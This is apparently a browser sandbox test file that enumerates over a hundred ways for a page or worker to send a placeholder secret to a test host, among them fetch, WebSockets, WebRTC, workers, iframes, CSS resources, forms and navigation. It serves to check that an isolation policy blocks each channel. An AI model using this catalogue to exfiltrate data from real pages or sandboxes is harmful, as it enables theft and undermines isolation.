// Every way out of a page or a worker that we know of. Each tries to bring a secret to a place of its own: `at.url` holds
// the secret, `at.host` and `at.port` are that place's. Whether something came is seen there; what is thrown or answered
// here says nothing. The same list runs in a page without a policy, so that each way is seen to be one.
"use strict";
self.waysOut = (() => {
  const SECRET = "s3cr3t";
  const inPage = typeof document === "object";
  const blob = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
  const add = (tag, properties, parent) => {
    const one = document.createElement(tag);
    for (const [name, value] of Object.entries(properties)) {
      if (name in one && typeof value !== "string") one[name] = value;
      else one.setAttribute(name, value);
    }
    (parent || document.body).append(one);
    return one;
  };
  const link = (rel, href, more = {}) => add("link", { rel, href, ...more }, document.head);
  const style = (text) => {
    const box = add("div", { class: "way" }), sheet = new CSSStyleSheet();
    box.textContent = "x";
    sheet.replaceSync(text);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    return box;
  };
  const written = (text) => {
    add("style", {}).textContent = text;
    add("div", { class: "written" }).textContent = "x";
  };
  const svg = (markup) => {
    add("div", {}).innerHTML = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${markup}</svg>`;
  };
  const rtc = (kind, servers) => {
    const peer = new self[kind]({ iceServers: servers });
    peer.createDataChannel("x");
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  };
  const workerOf = (code) => new Worker(blob(code));
  const text = JSON.stringify;

  const ANYWHERE = {
    "fetch": ({ url }) => fetch(url, { mode: "no-cors" }),
    "fetch, cors": ({ url }) => fetch(url),
    "fetch, POST": ({ url }) => fetch(url, { method: "POST", mode: "no-cors", body: SECRET }),
    "fetch, keepalive": ({ url }) => fetch(url, { method: "POST", keepalive: true, mode: "no-cors", body: SECRET }),
    "fetch of a Request": ({ url }) => fetch(new Request(url, { mode: "no-cors" })),
    "fetchLater": ({ url }) => fetchLater(url, { activateAfter: 0 }),
    "fetch from a new function": ({ url }) => new Function("url", "return fetch(url, { mode: 'no-cors' })")(url),
    "XMLHttpRequest": ({ url }) => {
      const request = new XMLHttpRequest();
      request.open("POST", url);
      request.send(SECRET);
    },
    "XMLHttpRequest, synchronous": ({ url }) => {
      const request = new XMLHttpRequest();
      request.open("GET", url, false);
      request.send();
    },
    "WebSocket": ({ url }) => new WebSocket(url.replace("http", "ws")),
    "WebSocketStream": ({ url }) => new WebSocketStream(url.replace("http", "ws")),
    "EventSource": ({ url }) => new EventSource(url),
    "WebTransport": ({ url }) => new WebTransport(url.replace("http:", "https:")).ready,
    "import()": ({ url }) => import(url),
    "import() in a blob": ({ url }) => import(blob(`import ${text(url)}`)),
    "Worker": ({ url }) => new Worker(url),
    "SharedWorker": ({ url }) => new SharedWorker(url),
    "fetch in a blob worker": ({ url }) => workerOf(`fetch(${text(url)}, { mode: "no-cors" })`),
    "WebSocket in a blob worker": ({ url }) => workerOf(`new WebSocket(${text(url.replace("http", "ws"))})`),
    "importScripts in a blob worker": ({ url }) => workerOf(`importScripts(${text(url)})`),
    "module blob worker": ({ url }) => new Worker(blob(`import ${text(url)}`), { type: "module" }),
    "data: worker": ({ url }) => new Worker(`data:text/javascript,fetch(${text(url)},{mode:"no-cors"})`),
    "blob SharedWorker": ({ url }) => new SharedWorker(blob(`fetch(${text(url)}, { mode: "no-cors" })`)),
    "blob worker in a blob worker": ({ url }) =>
      workerOf(`new Worker(URL.createObjectURL(new Blob([${text(`fetch(${text(url)}, { mode: "no-cors" })`)}])))`),
    "serviceWorker": ({ url }) => navigator.serviceWorker.register(url),
    "FontFace": ({ url }) => new FontFace("way", `url(${text(url)})`).load(),
    "caches": ({ url }) => caches.open("x").then((cache) => cache.add(new Request(url, { mode: "no-cors" }))),
    "WebAssembly of a fetch": ({ url }) => WebAssembly.compileStreaming(fetch(url)),
    "sendBeacon": ({ url }) => navigator.sendBeacon(url, SECRET),
    "RTCPeerConnection, STUN": ({ host, port }) => rtc("RTCPeerConnection", [{ urls: `stun:${host}:${port}` }]),
    "RTCPeerConnection, TURN": ({ host, port }) =>
      rtc("RTCPeerConnection", [{ urls: `turn:${host}:${port}?transport=udp`, username: SECRET, credential: "x" }]),
    "RTCPeerConnection, TURN over TCP": ({ host, port }) =>
      rtc("RTCPeerConnection", [{ urls: `turn:${host}:${port}?transport=tcp`, username: SECRET, credential: "x" }]),
    "webkitRTCPeerConnection": ({ host, port }) => rtc("webkitRTCPeerConnection", [{ urls: `stun:${host}:${port}` }]),
    "TCPSocket": ({ host, port }) => new TCPSocket(host, port),
    "Notification with an icon": ({ url }) => new Notification("x", { icon: url }),
  };
  const IN_WORKERS = {
    "importScripts": ({ url }) => importScripts(url),
    "eval of importScripts": ({ url }) => (0, eval)(`importScripts(${text(url)})`),
    "fetch of a prototype": ({ url }) => WorkerGlobalScope.prototype.fetch.call(self, url),
    "importScripts of a prototype": ({ url }) => WorkerGlobalScope.prototype.importScripts.call(self, url),
    "loadUnlocking with another blob": ({ url }) => {
      const make = URL.createObjectURL;
      URL.createObjectURL = () => url;
      try {
        self.loadUnlocking();
      } finally {
        URL.createObjectURL = make;
      }
    },
    "load of another boot": ({ url }) => boot({ loader: new Blob([`importScripts(${text(url)})`]) }, url),
    "tryWaysOut": ({ url }) => self.tryWaysOut(url, url),
    "a Python script": ({ url }) => self.pyodide.runPython(`import js; js.fetch(${text(url)})`),
  };
  const IN_PAGES = {
    "img": ({ url }) => add("img", { src: url }),
    "Image": ({ url }) => Object.assign(new Image(), { src: url }),
    "img, srcset": ({ url }) => add("img", { srcset: `${url} 1x` }),
    "img, attributionsrc": ({ url }) => add("img", { attributionsrc: url, src: "data:," }),
    "picture": ({ url }) => {
      const picture = add("picture", {});
      add("source", { srcset: url }, picture);
      add("img", {}, picture);
    },
    "input of images": ({ url }) => add("input", { type: "image", src: url }),
    "svg image": ({ url }) => svg(`<image href="${url}" width="9" height="9"/>`),
    "svg image, xlink": ({ url }) => svg(`<image xlink:href="${url}" width="9" height="9"/>`),
    "svg use": ({ url }) => svg(`<use href="${url}#a"/>`),
    "svg feImage": ({ url }) => svg(`<filter id="f"><feImage href="${url}"/></filter><rect filter="url(#f)" width="9" height="9"/>`),
    "svg script": ({ url }) => {
      const drawing = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      const script = document.createElementNS("http://www.w3.org/2000/svg", "script");
      script.setAttribute("href", url);
      drawing.append(script);
      document.body.append(drawing);
    },
    "svg in an image": ({ url }) =>
      add("img", { src: `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/></svg>`)}` }),
    "video": ({ url }) => add("video", { src: url, preload: "auto" }),
    "video, poster": ({ url }) => add("video", { poster: url }),
    "audio": ({ url }) => add("audio", { src: url, preload: "auto" }),
    "Audio": ({ url }) => new Audio(url).play(),
    "source": ({ url }) => add("source", { src: url }, add("video", { preload: "auto" })),
    "track": ({ url }) => {
      const video = add("video", { src: "data:video/mp4;base64,AAAA", crossorigin: "anonymous" });
      add("track", { src: url, default: "" }, video);
      video.textTracks[0].mode = "showing";
    },
    "embed": ({ url }) => add("embed", { src: url }),
    "object": ({ url }) => add("object", { data: url }),
    "iframe": ({ url }) => add("iframe", { src: url }),
    "iframe, srcdoc": ({ url }) => add("iframe", { srcdoc: `<img src="${url}">` }),
    "iframe, srcdoc with a script": ({ url }) => add("iframe", { srcdoc: `<script>fetch(${text(url)}, { mode: "no-cors" })<\/script>` }),
    "iframe, blob": ({ url }) =>
      add("iframe", { src: URL.createObjectURL(new Blob([`<img src="${url}">`], { type: "text/html" })) }),
    "iframe, data:": ({ url }) => add("iframe", { src: `data:text/html,<img src="${url}">` }),
    "iframe, javascript:": ({ url }) => add("iframe", { src: `javascript:"<img src='${url}'>"` }),
    "iframe's own fetch": ({ url }) => add("iframe", {}).contentWindow.fetch(url, { mode: "no-cors" }),
    "iframe's RTCPeerConnection": ({ host, port }) => {
      const { RTCPeerConnection } = add("iframe", {}).contentWindow;
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}:${port}` }] });
      peer.createDataChannel("x");
      return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    },
    "iframe, written to": ({ url }) => {
      const { contentDocument } = add("iframe", {});
      contentDocument.write(`<img src="${url}">`);
      contentDocument.close();
    },
    "iframe that is sandboxed": ({ url }) => add("iframe", { sandbox: "allow-scripts", src: url }),
    "frameset": ({ url }) => add("frame", { src: url }, add("frameset", {})),
    "fencedframe": ({ url }) => add("fencedframe", { config: new FencedFrameConfig(url) }),
    "portal": ({ url }) => add("portal", { src: url }),
    "script": ({ url }) => add("script", { src: url }),
    "module script": ({ url }) => add("script", { type: "module", src: url }),
    "import in an inline module": ({ url }) => {
      add("script", { type: "module" }).textContent = `import ${text(url)}`;
    },
    "speculationrules": ({ url }) => {
      const rules = document.createElement("script");
      rules.type = "speculationrules";
      rules.textContent = text({ prefetch: [{ source: "list", urls: [url] }], prerender: [{ source: "list", urls: [url] }] });
      document.head.append(rules);
    },
    "stylesheet": ({ url }) => link("stylesheet", url),
    "preload, image": ({ url }) => link("preload", url, { as: "image" }),
    "preload, fetch": ({ url }) => link("preload", url, { as: "fetch", crossorigin: "anonymous" }),
    "preload, script": ({ url }) => link("preload", url, { as: "script" }),
    "modulepreload": ({ url }) => link("modulepreload", url),
    "prefetch": ({ url }) => link("prefetch", url),
    "prerender": ({ url }) => link("prerender", url),
    "preconnect": ({ url }) => link("preconnect", new URL(url).origin),
    "preconnect, crossorigin": ({ url }) => link("preconnect", new URL(url).origin, { crossorigin: "anonymous" }),
    "dns-prefetch": ({ url }) => link("dns-prefetch", new URL(url).origin),
    "icon": ({ url }) => link("icon", url),
    "apple-touch-icon": ({ url }) => link("apple-touch-icon", url),
    "manifest": ({ url }) => link("manifest", url),
    "compression-dictionary": ({ url }) => link("compression-dictionary", url),
    "@import, written": ({ url }) => written(`@import url("${url}");`),
    "@import, adopted": ({ url }) => style(`@import url("${url}");`),
    "background, written": ({ url }) => written(`.written { background: url("${url}"); }`),
    "background, adopted": ({ url }) => style(`.way { background: url("${url}"); }`),
    "background, set": ({ url }) => {
      add("div", {}).style.background = `url("${url}")`;
    },
    "background, of an attribute": ({ url }) => add("div", { style: `background: url("${url}")` }),
    "image-set": ({ url }) => {
      add("div", {}).style.background = `image-set(url("${url}") 1x)`;
    },
    "list-style": ({ url }) => {
      Object.assign(add("li", {}).style, { listStyleImage: `url("${url}")` });
    },
    "border-image": ({ url }) => {
      Object.assign(add("div", {}).style, { border: "9px solid", borderImage: `url("${url}") 9` });
    },
    "mask": ({ url }) => {
      Object.assign(add("div", {}).style, { maskImage: `url("${url}")`, height: "9px" });
    },
    "cursor": ({ url }) => {
      document.body.style.cursor = `url("${url}"), auto`;
    },
    "content": ({ url }) => style(`.way::before { content: url("${url}"); }`),
    "filter": ({ url }) => {
      Object.assign(add("div", {}).style, { filter: `url("${url}#f")`, height: "9px" });
    },
    "shape-outside": ({ url }) => {
      Object.assign(add("div", {}).style, { float: "left", shapeOutside: `url("${url}")` });
    },
    "@font-face, adopted": ({ url }) => style(`@font-face { font-family: wayout; src: url("${url}"); } .way { font-family: wayout; }`),
    "@font-face, added": ({ url }) => {
      document.fonts.add(new FontFace("wayadded", `url("${url}")`));
      add("p", { }).textContent = "x";
      document.body.lastChild.style.fontFamily = "wayadded";
    },
    "form, GET": ({ url }) => {
      add("iframe", { name: "form-get" });
      add("form", { action: url, target: "form-get" }).submit();
    },
    "form, POST": ({ url }) => {
      add("iframe", { name: "form-post" });
      const form = add("form", { action: url, method: "post", target: "form-post" });
      add("input", { name: "x", value: SECRET }, form);
      form.submit();
    },
    "formaction": ({ url }) => {
      add("iframe", { name: "form-action" });
      const form = add("form", { target: "form-action" });
      add("button", { formaction: url }, form).click();
    },
    "form in a new window": ({ url }) => add("form", { action: url, target: "_blank" }).submit(),
    "window.open": ({ url }) => window.open(url),
    "window.open, noopener": ({ url }) => window.open(url, "_blank", "noopener"),
    "link in a new window": ({ url }) => add("a", { href: url, target: "_blank" }).click(),
    "ping": ({ url }) => add("a", { href: "#there", ping: url }).click(),
    "CSS.paintWorklet": ({ url }) => CSS.paintWorklet.addModule(url),
    "audioWorklet": ({ url }) => new AudioContext().audioWorklet.addModule(url),
    "sharedStorage": ({ url }) => sharedStorage.worklet.addModule(url),
    "PaymentRequest": ({ url }) => new PaymentRequest([{ supportedMethods: url }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment(),
    "PresentationRequest": ({ url }) => new PresentationRequest([url]).getAvailability(),
    "credentials of others": ({ url }) => navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: SECRET }] } }),
    "MediaMetadata": ({ url }) => {
      navigator.mediaSession.metadata = new MediaMetadata({ title: "x", artwork: [{ src: url }] });
    },
    "EME": ({ url }) => navigator.requestMediaKeySystemAccess("org.w3.clearkey", [{ initDataTypes: [url] }]),
    "XSLT": ({ url }) => {
      const sheet = new DOMParser().parseFromString(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${url}"/></xsl:stylesheet>`, "text/xml");
      const processor = new XSLTProcessor();
      processor.importStylesheet(sheet);
      processor.transformToFragment(sheet, document);
    },
    "document of another": ({ url }) => {
      const other = document.implementation.createHTMLDocument();
      other.body.innerHTML = `<img src="${url}">`;
      document.body.append(document.adoptNode(other.body.firstChild));
    },
    "base": ({ url }) => {
      const base = add("base", { href: url }, document.head);
      add("img", { src: "relative" });
      base.remove();
    },
    "innerHTML": ({ url }) => {
      add("div", {}).innerHTML = `<img src="${url}" onerror="fetch('${url}')">`;
    },
    "background of a body": ({ url }) => document.body.setAttribute("background", url),
    "menu of a video": ({ url }) => add("video", { src: URL.createObjectURL(new Blob([`#EXTM3U\n#EXTINF:1\n${url}`], { type: "application/vnd.apple.mpegurl" })) }).play(),
    "Python's own fetch": ({ url }) => self.scanveil.attempt(self, "fetch", url),
    "proof's own site": ({ url }) => {
      proof.at(url);
      return proof.tryAll();
    },
  };
  // Those by which a page would be left, if they could.
  const LEAVING = {
    "location": ({ url }) => {
      location = url;
    },
    "location.assign": ({ url }) => location.assign(url),
    "location.replace": ({ url }) => location.replace(url),
    "link": ({ url }) => add("a", { href: url }).click(),
    "link that downloads": ({ url }) => add("a", { href: url, download: "x" }).click(),
    "link of the top": ({ url }) => add("a", { href: url, target: "_top" }).click(),
    "top.location": ({ url }) => {
      top.location = url;
    },
    "parent.location": ({ url }) => {
      parent.location = url;
    },
    "form of the page": ({ url }) => add("form", { action: url }).submit(),
    "form of the top": ({ url }) => add("form", { action: url, target: "_top", method: "post" }).submit(),
    "refresh": ({ url }) => add("meta", { "http-equiv": "refresh", content: `0; url=${url}` }, document.head),
    "document.write": ({ url }) => {
      document.open();
      document.write(`<img src="${url}">`);
      document.close();
    },
    "navigation": ({ url }) => navigation.navigate(url),
  };
  const WAYS = inPage ? { ...ANYWHERE, ...IN_PAGES } : { ...ANYWHERE, ...IN_WORKERS };
  const at = (host, port, number) => ({ host: `w${number}.${host}`, port: port + number, url: `http://w${number}.${host}:${port + number}/${SECRET}` });
  const tryOne = async (act, place) => {
    try {
      await act(place);
    } catch (error) {
      return String(error && error.name || error); // it says nothing of what went out
    }
    return "";
  };
  const run = (ways, host, port, first = 0) =>
    Object.entries(ways).map(([name, act], number) => [name, tryOne(act, at(host, port, first + number))]);
  return {
    names: Object.keys(WAYS),
    leaving: inPage ? Object.keys(LEAVING) : [],
    all(host, port) {
      return run(WAYS, host, port).length;
    },
    leave(host, port, name) {
      const first = this.names.length + this.leaving.indexOf(name);
      run({ [name]: LEAVING[name] }, host, port, first);
    },
  };
})();
if (typeof document !== "object") {
  self.addEventListener("message", (event) => {
    if (event.data.kind !== "ways") return;
    event.stopImmediatePropagation();
    event.data.done.postMessage([self.waysOut.all(event.data.host, event.data.port), self.waysOut.names]);
  });
}
